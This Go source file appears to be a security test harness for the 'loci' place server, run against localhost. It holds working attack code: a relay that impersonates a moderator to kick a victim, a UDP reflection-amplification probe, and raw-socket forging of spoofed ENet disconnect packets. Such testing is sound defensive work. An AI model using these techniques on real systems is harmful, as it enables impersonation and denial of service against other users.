package main

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/base64"
	"encoding/binary"
	"log/slog"
	"math/rand/v2"
	"net"
	"net/netip"
	"sync"
	"syscall"
	"time"

	"github.com/loci-place/loci/netcode"
	"github.com/loci-place/loci/netcode/client"
	"github.com/loci-place/loci/netcode/enet"
	"github.com/loci-place/loci/netcode/rawenet"
)

// moderator is the key of who may send others away in lobbyPlace.
var moderator = ed25519.NewKeyFromSeed(bytes.Repeat([]byte{7}, ed25519.SeedSize))

var lobbyPlace = map[string]string{"place.lua": `place.name = "Lobby"`, "acl.lua": `
allow [=[ ["interaction", "request", From, "place", _, ["kick_agent", _]]
  when verified(From) in ["` + base64.StdEncoding.EncodeToString(moderator.Public().(ed25519.PublicKey)) + `"] ]=]
`}

// passOn has a place of the attacker's, which a moderator visits, pass on to the real one all
// that the moderator sends until it is let in there, and then send a victim away.
func passOn(a *attacker) {
	evil, err := enet.New(enet.Config{Listen: "127.0.0.1:0", Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		panic(err)
	}
	real, err := enet.New(enet.Config{Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		panic(err)
	}
	relay := &relay{evil: evil, real: real}
	go func() { _ = evil.Serve(relay) }()
	go func() { _ = real.Serve(replies{relay}) }()
	defer real.Close(netcode.CodeClientLeft)
	defer evil.Close(netcode.CodePlaceClosed)
	if relay.place, err = real.Dial(a.addr(), 6); err != nil {
		panic(err)
	}
	a.sleep(500 * time.Millisecond)

	victim := a.join(deaf("victim"))
	waits, cancel := context.WithTimeout(a.ctx, 4*time.Second)
	defer cancel()
	_, err = client.Dial(waits, "alloplace://"+evil.Addr().String(), client.Config{
		Key: moderator, PlaceName: "Lobby", Identity: map[string]any{"display_name": "moderator"},
	})
	a.say("the moderator's visit: %v", err)
	agents := victim.ask("list_agents")
	for _, agent := range agents[min(2, len(agents)):] {
		list, _ := agent.([]any)
		for _, item := range list {
			if m, _ := item.(map[string]any); m["avatar_id"] == victim.Avatar() {
				relay.say(`["interaction","request","","place","k",["kick_agent","` + m["agent_id"].(string) + `"]]`)
			}
		}
	}
	select {
	case <-victim.Done():
		a.harm("was sent away in a moderator's name")
	case <-time.After(2 * time.Second):
	}
}

// relay passes commands on between who visits the attacker's place and the real one.
type relay struct {
	evil, real *enet.Transport
	place      netcode.Conn

	mu      sync.Mutex
	visitor netcode.Conn
}

func (r *relay) Connected(c netcode.Conn, _ netip.AddrPort) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.visitor = c
}

func (r *relay) Disconnected(netcode.Conn, uint32) {}

func (r *relay) Received(_ netcode.Conn, channel uint8, data []byte) {
	if channel == netcode.CommandChannel {
		r.say(string(data))
	}
}

func (r *relay) say(data string) {
	_ = r.real.Send(netcode.Packet{Channel: netcode.CommandChannel, Reliable: true, Data: []byte(data)}, r.place)
}

// replies passes on what the real place says.
type replies struct{ *relay }

func (replies) Connected(netcode.Conn, netip.AddrPort) {}

func (r replies) Received(_ netcode.Conn, channel uint8, data []byte) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if channel == netcode.CommandChannel {
		_ = r.evil.Send(netcode.Packet{Channel: channel, Reliable: true, Data: bytes.Clone(data)}, r.visitor)
	}
}

// reflect asks for a connection once and counts what comes back, which goes to somebody else
// if the address was forged.
func reflect(a *attacker) {
	conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(a.addr()))
	if err != nil {
		panic(err)
	}
	defer conn.Close()
	const headers = 28 // of IP and UDP
	connect := rawenet.ConnectDatagram(rand.Uint32(), 6)
	_, _ = conn.Write(connect)
	end, _ := a.ctx.Deadline()
	_ = conn.SetReadDeadline(end)
	got := 0
	for buf := make([]byte, 4096); ; {
		n, err := conn.Read(buf)
		if err != nil {
			break
		}
		got += n + headers
	}
	if sent := len(connect) + headers; got > sent {
		a.harm("%d bytes come back for %d", got, sent)
	}
}

// goodbye forges goodbyes from the port of a victim, for all peers and sessions that it may be.
func goodbye(a *attacker) {
	socket, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		a.say("not tried, as it takes root: %v", err)
		return
	}
	defer syscall.Close(socket)
	t, err := enet.New(enet.Config{Listen: "127.0.0.1:0", Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		panic(err)
	}
	d := client.NewDialer(t)
	defer d.Close()
	victim, err := d.Dial(a.ctx, a.url, deaf("victim"))
	if err != nil {
		a.say("the victim did not get in: %v", err)
		return
	}
	for round := 0; round < 3 && a.sleep(200*time.Millisecond); round++ {
		for peer := range uint16(16) {
			for session := range uint16(4) {
				_ = syscall.Sendto(socket, forged(t.Addr(), a.addr(), peer, session), 0, &syscall.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}})
			}
		}
	}
	waits, cancel := context.WithTimeout(a.ctx, time.Second) // the victim itself has not heard of it
	defer cancel()
	if _, err := victim.Request(waits, "place", "poke", true); err != nil {
		a.harm("a forged goodbye ends another's connection: %v", err)
	}
}

// forged is an IP packet with a DISCONNECT that asks for no acknowledgement.
func forged(from, to netip.AddrPort, peer, session uint16) []byte {
	be := binary.BigEndian
	d := be.AppendUint16(nil, session<<12|peer)
	d = be.AppendUint16(append(d, rawenet.Disconnect, rawenet.NoChannel), 0)
	d = be.AppendUint32(d, netcode.CodeKicked)
	b := []byte{0x45, 0}
	b = be.AppendUint16(b, uint16(28+len(d)))
	b = append(b, 0, 0, 0, 0, 64, syscall.IPPROTO_UDP, 0, 0) // the system puts the checksum in
	b = append(b, from.Addr().AsSlice()...)
	b = append(b, to.Addr().AsSlice()...)
	b = be.AppendUint16(b, from.Port())
	b = be.AppendUint16(b, to.Port())
	b = be.AppendUint16(b, uint16(8+len(d)))
	b = append(b, 0, 0) // no checksum
	return append(b, d...)
}
